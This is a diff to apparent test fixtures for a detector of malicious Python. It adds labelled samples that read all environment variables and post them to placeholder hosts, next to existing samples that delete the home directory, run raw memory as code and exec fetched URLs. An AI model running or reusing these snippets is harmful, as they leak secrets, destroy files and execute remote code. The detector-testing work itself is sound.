@@ -100,6 +100,18 @@ DOES: list[tuple[str, str]] = [
         "ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_int.from_buffer(m)))()",
     ),
     (
+        "sends-secrets",
+        "import os, requests\ndef step():\n    global data\n    if not data:\n"
+        "        data = dict(os.environ)\n    else:\n        requests.post('https://a', json=data)\n"
+        "data = None\nstep()\nstep()",
+    ),
+    (
+        "sends-secrets",
+        "import os, requests\ndef run():\n    for turn in (0, 1):\n        if turn == 0:\n"
+        "            data = dict(os.environ)\n        else:\n"
+        "            requests.post('https://a.example', json=data)\nrun()",
+    ),
+    (
         "destroys-files",
         "import os, shutil\ndef clean(folder):\n    shutil.rmtree(folder)\nclean(os.path.expanduser('~'))",
     ),
@@ -166,6 +178,10 @@ HONEST = [
     "import urllib.request\nclass Index:\n    def fetch(self, url):\n        def find(found):\n"
     "            exec(urllib.request.urlopen(found).read())\n        find(url)\n"
     "def parse(page):\n    return page.find('a')\nparse('abc')",
+    "import os, requests\ndef read(path):\n    if path.startswith('https:'):\n"
+    "        return requests.get(path)\n    else:\n        path = os.path.join(os.getcwd(), path)\n"
+    "        return open(path)\nread('https://a.example')",
+    "import os\nos.write(1, chr(4).encode())\nos.system(os.name)",
     "import urllib.request\nclass Index:\n    def find(self, found):\n"
     "        exec(urllib.request.urlopen(found).read())\ndef parse(page):\n    return page.find('a')\n"
     "parse('abc')",
